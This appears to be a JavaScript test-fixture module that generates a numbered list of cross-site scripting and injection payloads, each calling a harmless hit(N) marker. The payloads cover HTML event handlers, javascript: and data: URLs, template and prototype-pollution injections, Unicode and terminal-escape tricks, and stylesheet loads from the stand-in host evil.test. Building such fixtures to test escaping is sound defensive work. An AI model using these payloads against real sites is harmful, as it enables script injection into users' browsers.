// Texts that would be code wherever a page took them for more than text. Each says `hit(N)` with its
// number, so that a test knows which one was. All are one line: a log has one on each.
const call = (n) => `hit(${n})`;

// What runs by itself once it is HTML.
const elements = [
  (js) => `<script>${js}</script>`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<svg onload=${js}>`,
  (js) => `<body onload=${js}>`,
  (js) => `<video src=x onerror=${js}></video>`,
  (js) => `<audio src=x onerror=${js}></audio>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<details open ontoggle=${js}>x</details>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:parent.${js}"></iframe>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<style onload=${js}>*{}</style>`,
  (js) => `<marquee onstart=${js}>x</marquee>`,
  (js) => `<select autofocus onfocus=${js}></select>`,
];
// What an attribute, a script, a comment, a style or another element is ended with first.
const endings = ["", '">', "'>", "-->", "</title>", "</textarea></pre></code></svg>"];

const scripts = [
  (js) => `';${js};//`,
  (js) => `";${js};//`,
  (js) => `\\';${js};//`,
  (js) => `\\";${js};//`,
  (js) => `</script><script>${js}</script>`,
  (js) => `'-${js}-'`,
  (js) => `"+${js}+"`,
  (js) => `);${js};(`,
  (js) => `*/${js}/*`,
  (js) => `\u2028${js}\u2028`,
  (js) => `{"__proto__":{"innerHTML":"<img src=x onerror=${js}>"}}`,
  (js) => `[][\`filter\`][\`constructor\`]\`${js}\`\`\``,
];
const templates = [
  (js) => "${" + js + "}",
  (js) => "`${" + js + "}`",
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `{{$on.constructor('${js}')()}}`,
  (js) => `<%= ${js} %>`,
  (js) => `#{${js}}`,
  (js) => `{%25 raw %25}<img src=x onerror=${js}>`,
  (js) => `[x](javascript:${js})`,
  (js) => `![x](x"onerror="${js})`,
];
const addresses = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => ` javascript:${js}`,
  (js) => `javascript://x%0a${js}`,
  (js) => `javascript&colon;${js}`,
  (js) => `&#106;avascript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `vbscript:${js}`,
  (js) => `<a href="javascript:${js}" autofocus onfocus=${js}>x</a>`,
  (js) => `<form action="javascript:${js}"><button autofocus onfocus=${js}>x</button></form>`,
  (js) => `<base href="//evil.test/"><script src=x.js></script>${js}`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<math><mi xlink:href="data:text/html,<script>${js}</script>">x</mi></math>`,
];
const styles = [
  (js) => `<style>@import 'https://evil.test/${js}.css';</style>`,
  (js) => `<link rel=stylesheet href="https://evil.test/${js}.css">`,
  (js) => `x;background:url(https://evil.test/${js}.png)`,
  (js) => `"style="background:url(https://evil.test/${js}.png)`,
  (js) => `expression(${js})`,
  (js) => `<div style="animation-name:x" onanimationstart=${js}><style>@keyframes x{}</style>`,
  (js) => `<img src="https://evil.test/${js}.png">`,
];
const svgs = [
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<svg><set onbegin=${js} attributeName=x>`,
  (js) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text y=20>x</text></a></svg>`,
  (js) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${js}>#x"/></svg>`,
  (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
];
// Signs that look like others, are none, turn the direction of a line, or steer a terminal.
const signs = [
  (js) => `\u202e<img src=x onerror=${js}>`,
  (js) => `\u2066<script>${js}</script>\u2069`,
  (js) => `\u200f\u061c"onfocus=${js} autofocus x="`,
  (js) => `\uff1cscript\uff1e${js}\uff1c/script\uff1e`,
  (js) => `<\u0130mg src=x onerror=${js}>`,
  (js) => `<scr\u00adipt>${js}</scr\u00adipt>`,
  (js) => `\ufeff<script>${js}</script>`,
  (js) => `<img/src=x\u00a0onerror=${js}>`,
  (js) => `&lt;img src=x onerror=${js}&gt;`,
  (js) => `%3Cimg%20src=x%20onerror=${js}%3E`,
  (js) => `\\u003cimg src=x onerror=${js}\\u003e`,
  (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
];
const terminals = [
  (js) => `\u001b]8;;javascript:${js}\u0007x\u001b]8;;\u0007`,
  (js) => `\u001b]0;<img src=x onerror=${js}>\u0007`,
  (js) => `\u001b]52;c;${js}\u0007`,
  (js) => `\u001b[31m<script>${js}</script>\u001b[0m`,
  (js) => `\u001b[2J\u001b[H<img src=x onerror=${js}>`,
  (js) => `<img src=x\rb onerror=${js}>`,
  (js) => `\u009b31m<svg onload=${js}>`,
  (js) => `\u001bP<svg onload=${js}>\u001b\\`,
];

const makers = [
  ...endings.flatMap((ending) => elements.map((element) => (js) => ending + element(js))),
  ...scripts, ...templates, ...addresses, ...styles, ...svgs, ...signs, ...terminals,
];

export const payloads = makers.map((make, i) => make(call(i)));

// What of a text may be the name of a file: no folder, nothing that steers a terminal.
export const inFileName = (text) => text.replace(/[\u0000-\u001f\u007f/]/g, "_");
